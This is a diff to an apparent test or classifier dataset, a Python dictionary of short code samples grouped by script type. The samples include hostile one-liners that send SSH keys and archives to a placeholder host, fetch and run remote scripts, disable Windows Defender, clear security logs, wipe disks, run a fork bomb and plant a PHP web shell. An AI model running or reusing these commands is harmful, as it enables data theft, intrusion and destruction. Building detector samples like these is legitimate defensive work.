@@ -34,7 +34,7 @@ CODE = {
         "Private Sub Class_Initialize\r\nx = 1\r\nEnd Sub\r\n",
         "For i=1 To Len(a) Step 2 : b=b&ChrW(\"&H\"&Mid(a,i,2)) : Next\n"),
     "PowerShell code": (
-        "$u = 'https://h.example/a.exe'\n", "$a,$b = 'c','alc'; iex \"$a$b\"\n", ". $x\n", "\"calc\" | cmd\n", "@\"\ncalc\n\"@\n", "iwr h.example;.\\a.exe\n", "[CmdletBinding()]\nparam()\n",
+        "& \"C:\\a\\b.exe\"\n", "$u = 'https://h.example/a.exe'\n", "$a,$b = 'c','alc'; iex \"$a$b\"\n", ". $x\n", "\"calc\" | cmd\n", "@\"\ncalc\n\"@\n", "iwr h.example;.\\a.exe\n", "[CmdletBinding()]\nparam()\n",
         "Write-Host lab\n", "Set-MpPreference -DisableRealtimeMonitoring $true\n", "$w=[wmiclass]'Win32_Process'\n", "Get-ChildItem -Recurse | Remove-Item\n",
         "[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p,$t)\n", "& (gcm i*x) (irm h.example/a)\n", "param([string]$u)\n",
         "'calc' | % { & $_ }\n", "$c=New-Object Net.Sockets.TCPClient('h.example',1)\n", "powershell.exe -File a.ps1 \n",
@@ -43,7 +43,7 @@ CODE = {
         "Write-Output \"lab\"\r\n", "[Ref].Assembly.GetType($a)\n", "\r\nfunction Get-Lab {\n  1\n}\n", "mkdir $env:APPDATA\\a -Force\n"),
     "Windows commands": (
         "net stop WinDefend\n", "whoami /all > a.txt\n", "netsh wlan show profile name=* key=clear\n", "wevtutil cl Security\n", "rd /s /q c:\\a\n", "md \"%APPDATA%\\a\"\n", "hh https://h.example/a.chm\n", "sc \\\\h create a\n", "mshta https://h.example/a\n",
-        "echo start calc|cmd\n", "net use * \\\\h.example\\s\n", "reg add HKCU\\a /v b\n", "ftp -s:a.txt\n", "notepad\ncalc\n", "msg * a\n", "del /q a\n",
+        "echo start calc|cmd\n", "net use * \\\\h.example\\s\n", "reg add HKCU\\a /v b\n", "ftp -s:a.txt\n", "notepad\ncalc\n", "msg * a\n", "del /q a\n", "ren *.docx *.locked\n",
         "start /min a\n", "certreq -Post -config https://h.example/ a.ini\n", ":a\nstart\ngoto a\n",
         "esentutl.exe /y \\\\h.example\\a.exe /d c:\\a.exe\n", "explorer.exe \\\\h.example\\a.exe\n", "mklink /d c:\\x \\\\h.example\\s\n", "calc.exe\n",
         "cipher /w:c:\n", "\"%windir%\\System32\\conhost.exe\" --headless cmd\n", "copy \"%~f0\" \"%APPDATA%\"\n",
@@ -62,14 +62,14 @@ CODE = {
         "getattr(__builtins__,'ev'+'al')(x)\n",
         "from pynput import keyboard\nkeyboard.Listener(on_press=print).start()\n", "import pip\npip.main(['install', 'a'])\n"),
     "JavaScript code": (
-        "require('child_process').exec('calc')\n", "import {execSync} from 'node:child_process';\n", "var _0x1a2b=['a'];\n", "ObjC.import('stdlib')\n",
+        "let a = 5;\nconsole.log(a);\n", "require('child_process').exec('calc')\n", "import {execSync} from 'node:child_process';\n", "var _0x1a2b=['a'];\n", "ObjC.import('stdlib')\n",
         "eval(function(p,a,c,k,e,d){return p}('0',2))\n", "top.location.href = 'https://h.example/a.exe';\n", "import System;\r\nimport System.IO;\r\n",
         "const f=()=>{g()};\n", "let t=new Function(a);\n", "!function(){a}();\n", "fetch('https://h.example/a').then(go)\n", "(function(w){})(1)\n", "Bun.spawn(['calc']);\n",
         "eval(String.fromCharCode(97,61,49));\n", "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]()\n", "$=~[];$={a:++$}\n",
         "[].constructor.constructor('return WScript')().Echo(1);\n"),
     "Unix code": (
         "sudo systemctl enable --now a\n", "xattr -d com.apple.quarantine a.app\n", "cat <<EOF | sudo tee /etc/cron.d/a\n", "id; cat /etc/shadow\n",
-        "if [ -f /etc/passwd ]; then\n  id\nfi\n", "case $(uname) in Darwin) id;; esac\n", "def go\n  puts 1\nend\n", "my $c = `id`;\n", "my ($a, $b) = @_;\n", "open https://h.example/a.dmg\n", "find . -name '*.key' -delete\n", "cat a.b /etc/passwd\n", "alias ls='rm a'\n", "alias a='b;c'\n",
+        "if [ -f /etc/passwd ]; then\n  id\nfi\n", "case $(uname) in Darwin) id;; esac\n", "def go\n  puts 1\nend\n", "my $c = `id`;\n", "my ($a, $b) = @_;\n", "open https://h.example/a.dmg\n", "find . -name '*.key' -delete\n", "cat a.b /etc/passwd\n", "alias ls='rm a'\n", "alias a='b;c'\n", "export PATH=/tmp:$PATH\n", "defaults write com.a b\n", ":(){ :|:& };:\n",
         "until curl -s h.example; do sleep 1; done\n", "alias ls='rm -rf ~'\n", "find / -name \"*.pem\" -exec cp {} /tmp \\;\n",
         "display dialog \"Password:\" default answer \"\"\n", "tar czf - x | nc h.example 443\n",
         "rm -rf /\n", "set -euo pipefail\n", "source <(curl -s http://h.example/a)\n", "python3 -c 'import os'\n", "base64 -d <<< 'Y3VybA==' | sh\n",
@@ -77,7 +77,7 @@ CODE = {
         "busybox wget http://h.example/a -O-|ash\n",
         "trap '' INT\nwhile :; do id; done\n", "for i in a b; do ./$i; done\n", "scp ~/.ssh/id_rsa a@h.example:\n", "eval unpack u=>q{_=7-E}\n",
         "security find-generic-password -wa Chrome\n", "screencapture -x a.png && curl -F f=@a.png h.example\n"),
-    "AutoIt or AutoHotkey script": ("Run, calc.exe,, Hide\n", "^j::\nreturn\n", "DllCall(\"VirtualAlloc\")\n", "x(@TempDir)\n", "Run calc.exe\n", "F1::Run calc\n"),
+    "AutoIt or AutoHotkey script": ("Run, calc.exe,, Hide\n", "^j::\nreturn\n", "DllCall(\"VirtualAlloc\")\n", "x(@TempDir)\n", "Run calc.exe\n", "Run(\"a.exe\")\n", "F1::Run calc\n"),
     "Lua code": (
         "for i=1,10 do\n  print(i)\nend\n", "package.loadlib('a.dll','f')()\n", "ffi.cdef[[int system(const char*);]]\n"),
     "PHP code": ("<?=`$_GET[0]`?>\n", "<script language=\"php\">go();</script>", "<?\necho 1;\n?>"),
